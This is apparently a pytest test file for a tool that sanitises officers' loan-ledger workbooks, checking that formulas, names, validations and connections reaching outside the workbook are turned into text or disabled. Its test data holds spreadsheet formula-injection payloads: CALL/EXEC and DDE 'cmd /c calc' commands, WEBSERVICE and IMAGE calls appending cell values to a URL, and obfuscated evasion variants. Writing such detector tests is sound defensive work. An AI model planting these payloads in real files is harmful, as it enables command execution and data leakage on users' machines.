"""What reaches out of the officer's workbook comes back as words; his own sums come back as sums."""

import shutil
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from batch_runs import EXAMPLES, run
from openpyxl import Workbook, load_workbook
from openpyxl.formatting.rule import FormulaRule
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation
from openpyxl.worksheet.formula import ArrayFormula

from recovery_docs.batch.returned.returned_workbook import write_marked
from recovery_docs.spreadsheet.external_references import may_reach_out, reaches_out

OUTSIDE = (
    '=IMAGE("http://example.com/"&D2)',
    '=_xlfn.IMAGE("http://example.com/"&D2)',
    '=_xlfn._xlws.PY(0,1,"x")',
    '=image ("http://example.com/")',
    '=IF(A1>0,1,IFERROR( WEBSERVICE\n("http://example.com/"&A1),0))',
    "=MAP(A1:A3,_xleta.WEBSERVICE)",
    '=RTD("prog.id","","x")',
    '=IMPORTXML("http://example.com/"&A1,"//a")',
    '=IMPORTDATA("http://example.com/")',
    '=FILTERXML(A1,"//a")',
    '=HYPERLINK("http://example.com/?"&D2,"点此")',
    '=SQL.REQUEST("DSN=x",,2,"select 1")',
    '=CALL("kernel32","WinExec","JC","calc",1)',
    '=REGISTER.ID("kernel32","WinExec")',
    '=EXEC("calc")',
    '=FOPEN("c:\\x.txt",3)',
    '=CUBEVALUE("数据","[x]")',
    "=[1]Sheet!A1",
    "=SUM([1]Sheet!A1:A9)",
    "='[别的.xlsx]表'!A1",
    "='\\\\server\\x'!A1",
    "='file:///c:/别的.ods'#$表.A1",
    "=cmd|'/c calc'!A0",
    '=INDIRECT("[别的.xlsx]表!A1")',
)
OWN = (
    "=SUM(C2:C9)",
    "=ROUND(F2*G2*E2/H2,2)",
    "='一月 二月'!A1+1",
    "='O''Brien'!A1",
    "=SUM('1月:3月'!B2)",
    "=SUM(台账[本金余额])",
    "=台账[[#This Row],[本金（元）]]*0.05",
    "=表1['[旧']]]",
    '=IF(A2="[未填]","http://example.com/ | IMAGE(","")',
    '="a""|"&A1',
    "=_xlfn.XLOOKUP(A2,B:B,C:C)",
    "=SMALL(RECALL1:A9,2)",
    '=INDIRECT("R1C"&A1,FALSE)',
    "=py1+run2",
    '=DISPIMG("ID_0",1)',
)


@pytest.mark.parametrize("formula", OUTSIDE)
def test_it_reaches_out(formula: str) -> None:
    markup = formula[1:].replace("&", "&amp;").replace(">", "&gt;")
    assert reaches_out(formula)
    assert may_reach_out(f'<row r="1"><c r="A1"><f>{markup}</f></c></row>'.encode())


@pytest.mark.parametrize("formula", OWN)
def test_it_stays_in_the_workbook(formula: str) -> None:
    assert not reaches_out(formula)


Change = Callable[[Workbook], None]


def _with_sheet(path: Path, change: Change) -> Path:
    book = load_workbook(EXAMPLES / "workbook-flat.xlsx")
    change(book)
    book.save(path)
    return path


def _returned(tmp_path: Path, change: Change) -> Any:
    book = _with_sheet(tmp_path / "台账.xlsx", change)
    ran = run(book, tmp_path / "out", "--filing", "collection-notice", "--as-of", "2023-02-10")
    return load_workbook(ran.returned)


def _told(book: Any) -> dict[str, tuple[int, str]]:
    return {row[0]: row[1:3] for row in book["处理汇总"].iter_rows(values_only=True) if row[0]}


def _formulas(book: Workbook) -> None:
    sheet = book.create_sheet("测算")
    for row, formula in enumerate(OUTSIDE, start=1):
        sheet.cell(row, 1, formula)
    for row, formula in enumerate(OWN, start=1):
        sheet.cell(row, 2, formula)


def test_formulas_that_reach_out_come_back_as_words_and_are_told(tmp_path: Path) -> None:
    book = _returned(tmp_path, _formulas)
    sheet = book["测算"]
    assert [sheet.cell(row, 1).value for row in range(1, len(OUTSIDE) + 1)] == list(OUTSIDE)
    assert {cell.data_type for (cell,) in sheet.iter_rows(max_col=1, max_row=len(OUTSIDE))} == {"s"}
    assert all(cell.quotePrefix for (cell,) in sheet.iter_rows(max_col=1, max_row=len(OUTSIDE)))
    assert {cell.data_type for (cell,) in sheet.iter_rows(min_col=2, max_col=2, max_row=len(OWN))} == {"f"}
    assert _told(book)["公式，已改成文字"] == (len(OUTSIDE), "测算!A1")


def _array(book: Workbook) -> None:
    sheet = book.create_sheet("测算")
    sheet["A1"] = ArrayFormula("A1:A2", '=_xlfn.IMAGE("http://example.com/"&B1)')
    sheet["B1"] = ArrayFormula("B1:B2", "=C1:C2*2")


def test_a_formula_over_several_cells_is_no_way_round(tmp_path: Path) -> None:
    sheet = _returned(tmp_path, _array)["测算"]
    assert sheet["A1"].data_type == "s"
    assert sheet["B1"].data_type == "f"


def _patched(path: Path, part: str, old: bytes, new: bytes) -> None:
    parts = {}
    with zipfile.ZipFile(path) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    assert old in parts[part]
    parts[part] = parts[part].replace(old, new)
    with zipfile.ZipFile(path, "w") as archive:
        for name, data in parts.items():
            archive.writestr(name, data)


@pytest.mark.parametrize("hidden", [b'IM<!-- -->AGE("x")', b'<![CDATA[IMAGE("x")]]>', b'&#73;MAGE("x")'])
def test_a_formula_written_deviously_is_no_way_round(tmp_path: Path, hidden: bytes) -> None:
    path = _with_sheet(tmp_path / "台账.xlsx", lambda book: book.create_sheet("测算").cell(1, 1, "=1+99"))  # type: ignore
    sheets = load_workbook(path).sheetnames
    _patched(path, f"xl/worksheets/sheet{sheets.index('测算') + 1}.xml", b"1+99", hidden)
    ran = run(path, tmp_path / "out", "--filing", "collection-notice", "--as-of", "2023-02-10")
    cell = load_workbook(ran.returned)["测算"]["A1"]
    assert "IMAGE" not in str(cell.value) or cell.data_type == "s"


def test_a_formula_that_others_share_is_no_way_round(tmp_path: Path) -> None:
    path = _with_sheet(tmp_path / "台账.xlsx", lambda book: book.create_sheet("测算").append(["=1+98", "=1+99"]))
    part = f"xl/worksheets/sheet{load_workbook(path).sheetnames.index('测算') + 1}.xml"
    _patched(path, part, b"<f>1+98</f>", b'<f t="shared" ref="A1:B1" si="0">IMAGE(C1)</f>')
    _patched(path, part, b"<f>1+99</f>", b'<f t="shared" si="0"/>')
    ran = run(path, tmp_path / "out", "--filing", "collection-notice", "--as-of", "2023-02-10")
    row = load_workbook(ran.returned)["测算"][1]
    assert [(cell.value, cell.data_type) for cell in row] == [("=IMAGE(C1)", "s"), ("=IMAGE(D1)", "s")]


def _around(book: Workbook) -> None:
    sheet = book["不良贷款台账"]
    book.defined_names["远处"] = DefinedName("远处", attr_text="[1]Sheet1!$A$1")
    book.defined_names["近处"] = DefinedName("近处", attr_text="不良贷款台账!$A$1")
    for formula in ("'[别的.xlsx]表'!$A$1:$A$9", '"是,否"'):
        validation = DataValidation("list", formula1=formula)
        validation.add("A3:A9")
        sheet.add_data_validation(validation)
    for formula in ('WEBSERVICE("http://example.com/"&A3)=""', "A3>0"):
        sheet.conditional_formatting.add("A3:A9", FormulaRule([formula]))


@pytest.mark.parametrize("way", ["batch", "check"])
def test_names_formats_and_validations_that_reach_out_are_taken_away_and_told(tmp_path: Path, way: str) -> None:
    path = _with_sheet(tmp_path / "台账.xlsx", _around)
    if way == "check":
        write_marked(path, tmp_path / "写.xlsx", (), "zh")
        book = load_workbook(tmp_path / "写.xlsx")
    else:
        book = _returned(tmp_path, _around)
        assert _told(book)["名称，已改成文字"] == (1, "远处")
        assert _told(book)["数据有效性，已去掉"] == _told(book)["条件格式，已去掉"] == (1, "不良贷款台账")
    sheet = book["不良贷款台账"]
    assert book.defined_names["远处"].attr_text == '"[1]Sheet1!$A$1"'
    assert book.defined_names["近处"].attr_text == "不良贷款台账!$A$1"
    assert '"是,否"' in [one.formula1 for one in sheet.data_validations.dataValidation]
    assert not [one for one in sheet.data_validations.dataValidation if "[" in (one.formula1 or "")]
    assert [rule.formula for area in sheet.conditional_formatting for rule in area.rules].count(["A3>0"]) == 1
    assert "WEBSERVICE" not in str([rule.formula for area in sheet.conditional_formatting for rule in area.rules])


CONNECTION = (
    b'<connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    b'<connection id="1" name="\xe5\xba\x93" type="1" refreshedVersion="0" refreshOnLoad="1" interval="5">'
    b'<dbPr connection="DSN=x" command="select 1"/></connection></connections>'
)
EXCHANGE = (
    b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    b'<ddeLink ddeService="cmd" ddeTopic="/c calc"><ddeItems><ddeItem name="A0" advise="1"/>'
    b"</ddeItems></ddeLink></externalLink>"
)


def test_what_excel_would_fetch_on_opening_waits_until_somebody_asks(tmp_path: Path) -> None:
    path = Path(shutil.copy(EXAMPLES / "workbook-flat.xlsx", tmp_path / "台账.xlsx"))
    with zipfile.ZipFile(path, "a") as archive:
        archive.writestr("xl/connections.xml", CONNECTION)
        archive.writestr("xl/externalLinks/externalLink1.xml", EXCHANGE)
    ran = run(path, tmp_path / "out", "--filing", "collection-notice", "--as-of", "2023-02-10")
    with zipfile.ZipFile(ran.returned) as archive:
        connection, link = archive.read("xl/connections.xml"), archive.read("xl/externalLinks/externalLink1.xml")
    assert b"select 1" in connection
    assert b"refreshOnLoad" not in connection
    assert b"interval" not in connection
    assert b"ddeItem" not in link
    assert _told(load_workbook(ran.returned))["打开时刷新，已关闭"] == (1, "库")
